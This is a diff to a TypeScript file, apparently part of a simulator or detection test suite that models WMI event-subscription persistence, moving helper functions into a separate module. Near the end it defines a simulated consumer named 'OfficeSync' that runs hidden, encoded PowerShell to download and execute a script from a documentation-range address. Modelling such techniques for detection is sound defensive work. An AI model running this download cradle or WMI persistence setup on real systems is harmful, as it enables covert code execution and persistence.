@@ -3,7 +3,6 @@ import { ADMINISTRATORS_SID, SYSTEM_SID } from '../hosts.ts'
 import type { Scenario, SimulatedSubscription } from '../model.ts'
 import {
   CMD,
-  CREATOR,
   command,
   console,
   encoded,
@@ -16,31 +15,9 @@ import {
   SYSTEM32,
   unregister,
 } from './acts.ts'
+import { subscription, UPTIME, variant } from './parts.ts'
 
-const UPTIME =
-  "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 AND TargetInstance.SystemUpTime < 325"
 const REPOSITORY = `${SYSTEM32}wbem\\Repository\\`
-
-/** The payloads fetch nothing: their addresses are of the documentation range (RFC 5737) or reserved names. */
-function subscription(
-  name: string,
-  query: string,
-  consumerClass: string,
-  properties: SimulatedSubscription['consumer']['properties'],
-  more: Partial<SimulatedSubscription> & { consumerName?: string; eventNamespace?: string } = {},
-): SimulatedSubscription {
-  return {
-    namespace: more.namespace ?? 'root\\subscription',
-    filter: { name, query, eventNamespace: more.eventNamespace ?? 'root\\cimv2' },
-    consumer: { class: consumerClass, name: more.consumerName ?? name, properties },
-    creatorSid: more.creatorSid ?? CREATOR,
-    ...(more.timer === undefined ? {} : { timer: more.timer }),
-  }
-}
-
-function variant(scenario: Omit<Scenario, 'kind' | 'signals'>): Scenario {
-  return { ...scenario, kind: 'variant', signals: [] }
-}
 
 const encodedConsumer = subscription('OfficeSync', UPTIME, 'CommandLineEventConsumer', {
   CommandLineTemplate: `powershell.exe -nop -w hidden -enc ${encoded("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.10/a')")}`,
